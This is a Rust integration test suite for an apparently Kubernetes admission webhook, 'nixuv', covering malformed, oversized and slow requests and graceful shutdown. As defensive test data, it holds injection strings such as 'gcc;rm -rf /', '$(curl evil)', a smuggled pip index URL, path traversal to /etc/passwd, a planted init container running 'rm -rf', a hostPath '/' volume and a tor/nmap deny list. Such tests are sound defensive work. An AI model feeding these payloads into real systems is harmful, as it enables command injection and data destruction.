//! Hostile input and faults against the running server (loopback only, bounded in count and
//! time): every case gets a clear 4xx or a denial, never a crash or a 5xx for a well-formed review,
//! and the server stays healthy with bounded memory.

use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use tokio::io::AsyncWriteExt;

use crate::common::{self, Server};

fn review_with(f: impl FnOnce(&mut Value)) -> Value {
    let mut r = common::fixture("reviews/bare-pod.json");
    f(&mut r);
    r
}

fn rss_kib(pid: u32) -> u64 {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    s.lines().find(|l| l.starts_with("VmRSS")).unwrap().split_whitespace().nth(1).unwrap().parse().unwrap()
}

/// (name, body, expected HTTP status, for 200: expected `allowed`, and a needle in the message).
fn cases() -> Vec<(String, Vec<u8>, u16, Option<bool>, &'static str)> {
    let mut v: Vec<(String, Vec<u8>, u16, Option<bool>, &'static str)> = Vec::new();
    let mut add = |name: &str, body: Vec<u8>, status: u16, allowed: Option<bool>, needle: &'static str| {
        v.push((name.to_string(), body, status, allowed, needle))
    };
    let j = |v: &Value| serde_json::to_vec(v).unwrap();
    // Structure.
    add(
        "deeply nested array",
        format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(),
        400,
        None,
        "not JSON",
    );
    let nested_obj = format!(
        r#"{{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{{"uid":"u","operation":"CREATE","kind":{{"group":"","version":"v1","kind":"Pod"}},"resource":{{"group":"","version":"v1","resource":"pods"}},"object":{}{}}}}}"#,
        "{\"a\":".repeat(50_000),
        "1".to_string() + &"}".repeat(50_000)
    );
    // The object is skipped as raw JSON and never opted in: allowed, unchanged, no crash.
    add("deeply nested object", nested_obj.into_bytes(), 200, Some(true), "");
    add(
        "invalid UTF-8",
        b"{\"apiVersion\":\"admission.k8s.io/v1\",\"kind\":\"AdmissionReview\xff\xfe\"}".to_vec(),
        400,
        None,
        "not JSON",
    );
    add(
        "missing request",
        j(&json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"})),
        400,
        None,
        "no request",
    );
    add(
        "missing uid",
        j(&review_with(|r| {
            r["request"].as_object_mut().unwrap().remove("uid");
        })),
        400,
        None,
        "no uid",
    );
    add("uid not a string", j(&review_with(|r| r["request"]["uid"] = json!(12))), 400, None, "not JSON");
    add(
        "request not an object",
        j(&json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": [1]})),
        400,
        None,
        "not JSON",
    );
    add("duplicate keys", br#"{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","kind":"AdmissionReview","request":{"uid":"u"}}"#.to_vec(), 400, None, "duplicate field");
    add("empty body", Vec::new(), 400, None, "not JSON");
    // Wrong types in every field nixuv reads: a denial naming the object.
    let wrong: &[(&str, fn(&mut Value))] = &[
        ("labels an array", |r| r["request"]["object"]["metadata"]["labels"] = json!(["a"])),
        ("label value a number", |r| r["request"]["object"]["metadata"]["labels"]["nixuv.io/inject"] = json!(1)),
        ("annotations a string", |r| r["request"]["object"]["metadata"]["annotations"] = json!("x")),
        ("metadata a number", |r| r["request"]["object"]["metadata"] = json!(5)),
        ("spec a string", |r| r["request"]["object"]["spec"] = json!("x")),
        ("containers an object", |r| r["request"]["object"]["spec"]["containers"] = json!({"name": "a"})),
        ("container name a number", |r| r["request"]["object"]["spec"]["containers"][0]["name"] = json!(7)),
        ("env a string", |r| r["request"]["object"]["spec"]["containers"][0]["env"] = json!("PATH=/x")),
        ("env value an object", |r| {
            r["request"]["object"]["spec"]["containers"][0]["env"] = json!([{"name": "PATH", "value": {}}])
        }),
        ("volumeMounts wrong", |r| {
            r["request"]["object"]["spec"]["containers"][0]["volumeMounts"] = json!([{"name": 1}])
        }),
        ("volumes wrong", |r| r["request"]["object"]["spec"]["volumes"] = json!([{"name": ["x"]}])),
        ("initContainers wrong", |r| r["request"]["object"]["spec"]["initContainers"] = json!(true)),
        // Arrays where objects belong (found by fuzzing: the patch could not apply).
        ("a container given as an array", |r| {
            r["request"]["object"]["spec"]["containers"] = json!([["app", "python:3.12-slim"]])
        }),
        ("metadata given as an array", |r| {
            r["request"]["object"]["metadata"] = json!(["bare", null, "team-a", {"nixuv.io/inject": "true"}])
        }),
    ];
    for (name, f) in wrong {
        add(name, j(&review_with(f)), 200, Some(false), "not a valid Pod");
    }
    // Dependency injection attempts: denied, naming the item.
    let ann = |k: &str, v: &str| j(&review_with(|r| r["request"]["object"]["metadata"]["annotations"] = json!({k: v})));
    add(
        "shell metacharacters in a system dep",
        ann("nixuv.io/system-deps", "gcc;rm -rf /"),
        200,
        Some(false),
        "not a nixpkgs attribute path",
    );
    add("command substitution", ann("nixuv.io/system-deps", "$(curl evil)"), 200, Some(false), "$(curl");
    add(
        "backticks in a python dep",
        ann("nixuv.io/python-deps", "`reboot`"),
        200,
        Some(false),
        "not a PEP 508 requirement",
    );
    add(
        "newline injection",
        ann("nixuv.io/python-deps", "numpy\n--index-url https://evil"),
        200,
        Some(false),
        "pip options are not allowed",
    );
    add("NUL in a python dep", ann("nixuv.io/python-deps", "numpy\u{0}==1"), 200, Some(false), "control characters");
    add(
        "NUL in a system dep",
        ann("nixuv.io/system-deps", "gcc\u{0}"),
        200,
        Some(false),
        "not a nixpkgs attribute path",
    );
    add(
        "path traversal, system",
        ann("nixuv.io/system-deps", "../../etc/passwd"),
        200,
        Some(false),
        "not a nixpkgs attribute path",
    );
    add("path traversal, python", ann("nixuv.io/python-deps", "../../../etc"), 200, Some(false), "local paths");
    add(
        "a name that crashed the PEP 508 parser",
        ann("nixuv.io/python-deps", "A-!"),
        200,
        Some(false),
        "must end with a letter or digit",
    );
    add("file URL", ann("nixuv.io/python-deps", "x @ file:///etc/passwd"), 200, Some(false), "URL");
    add(
        "path traversal, python version",
        ann("nixuv.io/python", "../3.12"),
        200,
        Some(false),
        "not a Python 3 version",
    );
    add(
        "shell in containers annotation",
        ann("nixuv.io/containers", "app;id"),
        200,
        Some(false),
        "is not a container of this Pod",
    );
    add(
        "flake injection",
        ann("nixuv.io/system-deps", "nixpkgs#evil"),
        200,
        Some(false),
        "not a nixpkgs attribute path",
    );
    // Size.
    // The bare Pod declares 2 deps in labels; 62 more make maxDeps (64) exactly.
    let many: String = (0..62).map(|i| format!("p{i}")).collect::<Vec<_>>().join(",");
    add("at maxDeps", ann("nixuv.io/python-deps", &many), 200, Some(true), "");
    let over: String = (0..63).map(|i| format!("p{i}")).collect::<Vec<_>>().join(",");
    add(
        "one over maxDeps",
        ann("nixuv.io/python-deps", &over),
        200,
        Some(false),
        "declares 65 dependencies, more than maxDeps (64)",
    );
    add("a 2 MB dep", ann("nixuv.io/python-deps", &"a".repeat(2_000_000)), 200, Some(false), "over the limit of 65536");
    add(
        "a 2 MB system dep",
        ann("nixuv.io/system-deps", &"a".repeat(2_000_000)),
        200,
        Some(false),
        "over the limit of 65536",
    );
    add(
        "a huge label value",
        j(&review_with(|r| r["request"]["object"]["metadata"]["labels"]["x"] = json!("y".repeat(3_000_000)))),
        200,
        Some(true),
        "",
    );
    let containers: Vec<Value> = (0..5000)
        .map(|i| json!({"name": format!("c{i}"), "image": "x", "env": [{"name": "A", "value": "b"}]}))
        .collect();
    add(
        "5000 containers",
        j(&review_with(|r| r["request"]["object"]["spec"]["containers"] = json!(containers))),
        200,
        Some(false),
        "5000 containers, more than maxContainers (256)",
    );
    add(
        "256 containers",
        j(&review_with(|r| r["request"]["object"]["spec"]["containers"] = json!(containers[..256]))),
        200,
        Some(true),
        "",
    );
    let arr: Vec<Value> = (0..200_000).map(|_| json!({})).collect();
    add(
        "a 200k-element array nixuv skips",
        j(&review_with(|r| r["request"]["object"]["spec"]["tolerations"] = json!(arr))),
        200,
        Some(true),
        "",
    );
    v
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_bodies_get_a_4xx_or_a_denial() {
    let server = Server::start();
    let client = server.h1();
    let rss_before = rss_kib(server.child.id());
    let mut tried = 0;
    for (name, body, status, allowed, needle) in cases() {
        let resp = client
            .post(server.url("/mutate"))
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status().as_u16(), status, "{name}");
        let v: Value = resp.json().await.unwrap_or_else(|e| panic!("{name}: not JSON: {e}"));
        match allowed {
            None => assert!(v["error"].as_str().unwrap().contains(needle), "{name}: {v}"),
            Some(a) => {
                assert_eq!(v["response"]["allowed"], a, "{name}: {}", v["response"]);
                if !a {
                    assert_eq!(v["response"]["status"]["code"].as_u64().map(|c| c / 100), Some(4), "{name}");
                    let msg = v["response"]["status"]["message"].as_str().unwrap();
                    assert!(msg.contains(needle), "{name}: {msg:?} lacks {needle:?}");
                    assert!(msg.len() < 4096 || needle.is_empty(), "{name}: message bounded");
                }
            }
        }
        tried += 1;
        assert_eq!(server.h1().get(server.url("/healthz")).send().await.unwrap().status(), 200, "alive after {name}");
    }
    let rss_after = rss_kib(server.child.id());
    eprintln!("hostile: {tried} cases; RSS {rss_before} KiB -> {rss_after} KiB");
    assert!(rss_after < 256 * 1024, "memory bounded: {rss_after} KiB");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stalled_handshakes_and_slow_clients_do_not_starve_good_requests() {
    let server = Server::builder()
        .arg("--handshake-timeout")
        .arg("2s")
        .arg("--header-read-timeout")
        .arg("2s")
        .arg("--request-timeout")
        .arg("2s")
        .start();
    // 300 connections that never start TLS, and 100 that complete TLS but dribble headers.
    let mut idle = Vec::new();
    for _ in 0..300 {
        idle.push(tokio::net::TcpStream::connect(server.addr).await.unwrap());
    }
    let mut slow = Vec::new();
    for _ in 0..100 {
        let mut c = crate::lifecycle::raw_tls(&server).await;
        c.write_all(b"POST /mutate HTTP/1.1\r\nhost: x\r\n").await.unwrap();
        slow.push(c);
    }
    // Good requests still go through, promptly.
    let review = common::fixture("reviews/bare-pod.json");
    let client = server.fresh_client(&server.ca);
    for _ in 0..20 {
        let t = Instant::now();
        let r = client.post(server.url("/mutate")).json(&review).send().await.unwrap();
        assert_eq!(r.status(), 200);
        assert!(t.elapsed() < Duration::from_secs(1), "a good request waited {:?}", t.elapsed());
    }
    // The stalled connections are closed by the timeouts.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let m = server.h1().get(server.url("/metrics")).send().await.unwrap().text().await.unwrap();
    let failures = common::metric(&m, "nixuv_tls_handshake_failures_total") as u64;
    // Past the per-client cap (256, all of these come from one address), the oldest stalled
    // handshakes made room for the newer connections; the handshake timeout closed the rest.
    let evicted = common::metric(&m, "nixuv_connections_evicted_total") as u64;
    assert!(failures + evicted >= 300, "handshake timeouts {failures}, evicted {evicted}");
    let open = common::metric(&m, "nixuv_connections_open") as i64;
    assert!(open <= 5, "slow clients were closed by the header timeout: {open} open");
    drop(idle);
    drop(slow);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_connections_never_lock_clients_out() {
    // 4,096 idle TLS connections used to lock every client out; with a budget of 20, 60 of them.
    let server = Server::builder()
        .arg("--max-connections")
        .arg("20")
        .arg("--first-request-timeout")
        .arg("30s")
        .arg("--idle-timeout")
        .arg("30s")
        .separate_metrics()
        .start();
    let mut hold = Vec::new();
    for _ in 0..60 {
        hold.push(crate::lifecycle::raw_tls(&server).await);
    }
    // Each fresh connection makes room by closing the longest-idle one: served at once.
    for _ in 0..10 {
        let t = Instant::now();
        let r = server.fresh_client(&server.ca).get(server.url("/healthz")).send().await.unwrap();
        assert_eq!(r.status(), 200);
        assert!(t.elapsed() < Duration::from_secs(2), "waited {:?}", t.elapsed());
    }
    let m =
        reqwest::get(format!("http://{}/metrics", server.metrics_addr.unwrap())).await.unwrap().text().await.unwrap();
    assert!(common::metric(&m, "nixuv_connections_evicted_total") >= 10.0, "{m}");
    assert!(common::metric(&m, "nixuv_connections_open") <= 20.0);
    drop(hold);
}

/// Reads until the server closes the connection; the time it took.
async fn closed_within<S: tokio::io::AsyncRead + Unpin>(conn: &mut S, limit: Duration) -> Duration {
    use tokio::io::AsyncReadExt;
    let t = Instant::now();
    let mut buf = [0u8; 4096];
    loop {
        match tokio::time::timeout(limit.saturating_sub(t.elapsed()), conn.read(&mut buf)).await {
            Err(_) => panic!("connection still open after {limit:?}"),
            Ok(Ok(0)) | Ok(Err(_)) => return t.elapsed(),
            Ok(Ok(_)) => {}
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_partial_and_idle_connections_are_closed() {
    let server = Server::builder()
        .arg("--first-request-timeout")
        .arg("1s")
        .arg("--idle-timeout")
        .arg("2s")
        .separate_metrics()
        .start();
    // A handshake and then nothing, over either protocol.
    for alpn in [&b"http/1.1"[..], b"h2"] {
        let mut c = crate::lifecycle::raw_tls_alpn(&server, alpn).await;
        closed_within(&mut c, Duration::from_secs(8)).await;
    }
    // Half an HTTP/2 preface.
    let mut c = crate::lifecycle::raw_tls_alpn(&server, b"h2").await;
    c.write_all(b"PRI * HTTP/2.0\r\n").await.unwrap();
    closed_within(&mut c, Duration::from_secs(8)).await;
    // Clients that made a request and keep the connection (HTTP/1.1 keep-alive, HTTP/2 with
    // its PINGs answered by the client): closed once idle.
    let (h1, h2) = (server.h1(), server.h2());
    assert_eq!(h1.get(server.url("/healthz")).send().await.unwrap().status(), 200);
    let r = h2.get(server.url("/healthz")).send().await.unwrap();
    assert_eq!(r.version(), reqwest::Version::HTTP_2);
    let metrics = format!("http://{}/metrics", server.metrics_addr.unwrap());
    let open = |m: &str| common::metric(m, "nixuv_connections_open");
    let m = reqwest::get(&metrics).await.unwrap().text().await.unwrap();
    assert_eq!(open(&m), 2.0, "{m}");
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let m = reqwest::get(&metrics).await.unwrap().text().await.unwrap();
        if open(&m) == 0.0 {
            assert!(common::metric(&m, "nixuv_connections_idle_closed_total") >= 5.0, "{m}");
            break;
        }
        assert!(Instant::now() < deadline, "idle connections still open: {m}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    // And the clients reconnect transparently.
    assert_eq!(h1.get(server.url("/healthz")).send().await.unwrap().status(), 200);
    assert_eq!(h2.get(server.url("/healthz")).send().await.unwrap().status(), 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_under_load_fails_no_request() {
    let mut server = Server::builder().arg("--shutdown-delay").arg("1500ms").start();
    let review = common::fixture("reviews/bare-pod.json");
    let stop = Arc::new(AtomicBool::new(false));
    let (ok, failed) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    let url = server.url("/mutate");
    let mut workers = Vec::new();
    for w in 0..6 {
        let client = if w % 2 == 0 { server.h1() } else { server.h2() };
        let (stop, ok, failed, review, url) = (stop.clone(), ok.clone(), failed.clone(), review.clone(), url.clone());
        workers.push(tokio::spawn(async move {
            let mut n = 0;
            while !stop.load(Ordering::Relaxed) && n < 20_000 {
                n += 1;
                match client.post(&url).json(&review).send().await {
                    Ok(r) if r.status() == 200 => ok.fetch_add(1, Ordering::Relaxed),
                    _ => failed.fetch_add(1, Ordering::Relaxed),
                };
            }
        }));
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    server.signal("TERM");
    // Clients keep sending during the shutdown delay (as before endpoints update), then stop.
    tokio::time::sleep(Duration::from_millis(800)).await;
    stop.store(true, Ordering::Relaxed);
    for w in workers {
        w.await.unwrap();
    }
    let status = server.wait(Duration::from_secs(30));
    assert!(status.success());
    let (ok, failed) = (ok.load(Ordering::Relaxed), failed.load(Ordering::Relaxed));
    eprintln!("drain under load: {ok} succeeded, {failed} failed");
    assert!(ok > 100, "{ok}");
    assert_eq!(failed, 0);
}

/// An opted-in Pod as a `/mutate` review body, with `f` applied to the Pod.
fn pod_review(f: impl FnOnce(&mut Value)) -> Vec<u8> {
    let r = review_with(|r| {
        let pod = &mut r["request"]["object"];
        pod["metadata"]["labels"]["nixuv.io/inject"] = json!("true");
        pod["metadata"]["annotations"] = json!({"nixuv.io/system-deps": "gcc"});
        f(pod);
    });
    serde_json::to_vec(&r).unwrap()
}

async fn denial(server: &Server, body: Vec<u8>) -> String {
    let resp = server.h1().post(server.url("/mutate")).body(body).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    let v: Value = resp.json().await.unwrap();
    assert_eq!(v["response"]["allowed"], false, "{}", v["response"]);
    assert_eq!(v["response"]["status"]["code"].as_u64().map(|c| c / 100), Some(4));
    assert!(v["response"].get("patch").is_none());
    v["response"]["status"]["message"].as_str().unwrap().to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn responses_and_memo_stay_bounded() {
    let server = Server::start();
    let pid = server.child.id();
    let before = rss_kib(pid);
    // One Pod of 160,000 containers (about 2.9 MB, under the API server's cap): the patch would
    // have been ~100 MB.
    let body = pod_review(|pod| {
        let c: Vec<Value> = (0..160_000).map(|i| json!({"name": format!("{i:x}")})).collect();
        pod["spec"]["containers"] = Value::Array(c);
    });
    assert!(body.len() < 3 << 20, "{}", body.len());
    let msg = denial(&server, body).await;
    assert!(msg.contains("160000 containers, more than maxContainers (256)"), "{msg}");
    // Distinct huge declarations: refused before they are parsed or memoised.
    for i in 0..60 {
        let body = pod_review(|pod| {
            pod["metadata"]["annotations"]["nixuv.io/python-deps"] = json!(format!("a{i}, {}", "b,".repeat(500_000)));
        });
        let msg = denial(&server, body).await;
        assert!(msg.contains("over the limit of 65536"), "{msg}");
    }
    let after = rss_kib(pid);
    eprintln!("bounded: RSS {before} KiB -> {after} KiB");
    assert!(after < before + 96 * 1024, "RSS grew from {before} to {after} KiB");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn preview_is_bounded_in_objects_output_and_concurrency() {
    let server = Server::builder().arg("--preview-concurrency").arg("1").start();
    let pid = server.child.id();
    let before = rss_kib(pid);
    // ~27,000 tiny opted-in Pods in 4 MiB (under /mutate's limit): over /preview's own 1 MiB limit,
    // refused unread, not answered with 110 MB.
    let pod = r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","labels":{"nixuv.io/inject":"true"},"annotations":{"nixuv.io/system-deps":"gcc"}},"spec":{"containers":[{"name":"a","image":"x"}]}}"#;
    let list = |bytes: usize| {
        let mut body = String::from(r#"{"apiVersion":"v1","kind":"List","items":["#);
        while body.len() < bytes - 200 {
            body.push_str(pod);
            body.push(',');
        }
        body.pop();
        body.push_str("]}");
        body
    };
    let post = |body: String| {
        server.h1().post(server.url("/preview")).header("content-type", "application/json").body(body).send()
    };
    // Over HTTP/2: refused on its length before it is read, the answer arrives whatever the client
    // was still sending (over HTTP/1.1 the client may see the closed connection first).
    let resp = server
        .h2()
        .post(server.url("/preview"))
        .header("content-type", "application/json")
        .body(list(4 << 20))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 413);
    let v: Value = resp.json().await.unwrap();
    assert!(v["error"].as_str().unwrap().contains("limit of 1048576 bytes"), "{v}");
    // ~6,500 in 1 MiB: refused for their number, before any is decided.
    let resp = post(list(1 << 20)).await.unwrap();
    assert_eq!(resp.status(), 400);
    let v: Value = resp.json().await.unwrap();
    assert!(v["error"].as_str().unwrap().contains("more than 1000 objects"), "{v}");
    let after = rss_kib(pid);
    eprintln!("preview: RSS {before} KiB -> {after} KiB");
    assert!(after < before + 64 * 1024, "RSS grew from {before} to {after} KiB");
    // One preview at a time here: a second while the first is still sending its body gets 429.
    let mut slow = crate::lifecycle::raw_tls(&server).await;
    slow.write_all(
        b"POST /preview HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{",
    )
    .await
    .unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let resp = server.h1().post(server.url("/preview")).body(pod).send().await.unwrap();
    assert_eq!(resp.status(), 429);
    drop(slow);
    tokio::time::sleep(Duration::from_millis(300)).await;
    let resp = server.h1().post(server.url("/preview")).body(pod).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    // The answer's size is capped too.
    let small = Server::builder().arg("--preview-max-output").arg("2000").start();
    let resp = small.h1().post(small.url("/preview")).body(pod).send().await.unwrap();
    assert_eq!(resp.status(), 413);
    let v: Value = resp.json().await.unwrap();
    assert!(v["error"].as_str().unwrap().contains("--preview-max-output"), "{v}");
}

async fn review(server: &Server, pod: Value) -> Value {
    let body = serde_json::to_vec(&review_with(|r| r["request"]["object"] = pod)).unwrap();
    let resp = server.h1().post(server.url("/mutate")).body(body).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    resp.json::<Value>().await.unwrap()["response"].clone()
}

fn opted_in(annotations: Value, spec: Value) -> Value {
    json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "p", "labels": {"nixuv.io/inject": "true"}, "annotations": annotations}, "spec": spec})
}

fn denied_with(resp: &Value, code: u64, needle: &str) {
    assert_eq!(resp["allowed"], false, "{resp}");
    assert_eq!(resp["status"]["code"], code, "{resp}");
    assert!(resp.get("patch").is_none());
    let msg = resp["status"]["message"].as_str().unwrap();
    assert!(msg.contains(needle), "{msg:?} lacks {needle:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn smuggled_pods_are_denied_and_stale_ones_re_injected() {
    let server = Server::builder().config("policy:\n  system: {deny: ['tor*', 'nmap*']}\n").start();
    let app = json!({"containers": [{"name": "app", "image": "x"}]});
    // Policy globs are not bypassed through the package set's aliases.
    for attr in ["pkgs.tor", "buildPackages.nmap", "pkgsCross.aarch64-multiplatform.tor"] {
        let r = review(&server, opted_in(json!({"nixuv.io/system-deps": attr}), app.clone())).await;
        denied_with(&r, 403, "package-set alias");
    }
    // A stale or planted injection (the marker without the env id, an init container of another
    // env, from another image) is never trusted: nixuv re-injects, replacing its parts with its own.
    let clean = review(&server, opted_in(json!({"nixuv.io/system-deps": "gcc"}), app.clone())).await;
    let env = common::response_patch(&json!({"response": clean})).map(|p| {
        let pod = common::apply(&opted_in(json!({"nixuv.io/system-deps": "gcc"}), app.clone()), &p);
        pod["metadata"]["annotations"]["nixuv.io/env"].as_str().unwrap().to_string()
    });
    let env = env.unwrap();
    let old_init = json!([{"name": "nixuv-init", "image": "evil.example/writer", "command": ["sh", "-c", "rm -rf /nixuv/uv/*"],
                           "env": [{"name": "NIXUV_ENV", "value": "00000000000000aa"}]}]);
    let planted_volumes = json!([{"name": "nixuv-uv", "hostPath": {"path": "/"}}]);
    for annotations in [
        json!({"nixuv.io/system-deps": "gcc", "nixuv.io/status": "injected"}),
        json!({"nixuv.io/system-deps": "gcc", "nixuv.io/status": "injected", "nixuv.io/env": env}),
    ] {
        let pod = opted_in(
            annotations,
            json!({"containers": app["containers"], "initContainers": old_init, "volumes": planted_volumes}),
        );
        let r = review(&server, pod.clone()).await;
        assert_eq!(r["allowed"], true, "{r}");
        assert!(r["warnings"][0].as_str().unwrap().contains("re-injected"), "{r}");
        let out = common::apply(&pod, &common::response_patch(&json!({"response": r})).unwrap());
        let inits = out["spec"]["initContainers"].as_array().unwrap();
        assert_eq!(inits.len(), 1, "{out}");
        assert_eq!(inits[0]["command"], json!(["nixuv", "materialize"]));
        assert_eq!(inits[0]["image"], "ghcr.io/nixuv/nixuv-init:0.1.0");
        assert!(inits[0]["env"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["name"] == "NIXUV_ENV" && e["value"] == env.as_str()));
        let vols = out["spec"]["volumes"].as_array().unwrap();
        assert!(!out.to_string().contains("hostPath"), "{out}");
        assert_eq!(vols.len(), 3, "{out}");
        assert_eq!(out["metadata"]["annotations"]["nixuv.io/env"], env.as_str());
    }
    // Mount paths that only look different from nixuv's.
    for path in ["//nix", "/nixuv/./uv", "/tmp/../nix/store", "/nix/"] {
        let spec = json!({"containers": [{"name": "app", "image": "x", "volumeMounts": [{"name": "data", "mountPath": path}]}],
            "volumes": [{"name": "data", "emptyDir": {}}]});
        let r = review(&server, opted_in(json!({"nixuv.io/system-deps": "gcc"}), spec)).await;
        denied_with(&r, 400, "overlaps nixuv's mount");
    }
    // nixuv's own output, with a sidecar (never a target) writing the store it mounts.
    let clean_pod = opted_in(json!({"nixuv.io/system-deps": "gcc"}), app.clone());
    let injected = common::apply(&clean_pod, &common::response_patch(&json!({"response": clean})).unwrap());
    let mut smuggled = injected.clone();
    smuggled["spec"]["containers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "istio-proxy", "image": "x", "volumeMounts": [{"name": "nixuv-uv", "mountPath": "/w"}]}));
    let r = review(&server, smuggled).await;
    denied_with(&r, 403, "only nixuv-init may write it");
    // The same output as is stays allowed (reinvocation).
    let r = review(&server, injected).await;
    assert_eq!(r["allowed"], true, "{r}");
    // The stores mounted by the Pod itself, under any volume name.
    let spec = json!({"containers": [{"name": "app", "image": "x"}, {"name": "side", "image": "x", "volumeMounts": [{"name": "w", "mountPath": "/w"}]}],
        "volumes": [{"name": "w", "persistentVolumeClaim": {"claimName": "nixuv-uv-cache"}}]});
    let r = review(&server, opted_in(json!({"nixuv.io/system-deps": "gcc"}), spec)).await;
    denied_with(&r, 403, "one of nixuv's shared stores");
    // PATH given twice: the kubelet uses the last one, so that is the one nixuv extends.
    let pod = opted_in(
        json!({"nixuv.io/system-deps": "gcc"}),
        json!({"containers": [{"name": "app", "image": "x", "env": [{"name": "PATH", "value": "/first"}, {"name": "PATH", "value": "/last"}]}]}),
    );
    let r = review(&server, pod.clone()).await;
    let out = common::apply(&pod, &common::response_patch(&json!({"response": r})).unwrap());
    let envs = out["spec"]["containers"][0]["env"].as_array().unwrap();
    assert_eq!(envs[0]["value"], "/first");
    let last = envs[1]["value"].as_str().unwrap();
    assert!(last.starts_with("/nix/var/nix/profiles/nixuv/") && last.ends_with(":/last"), "{last}");
}
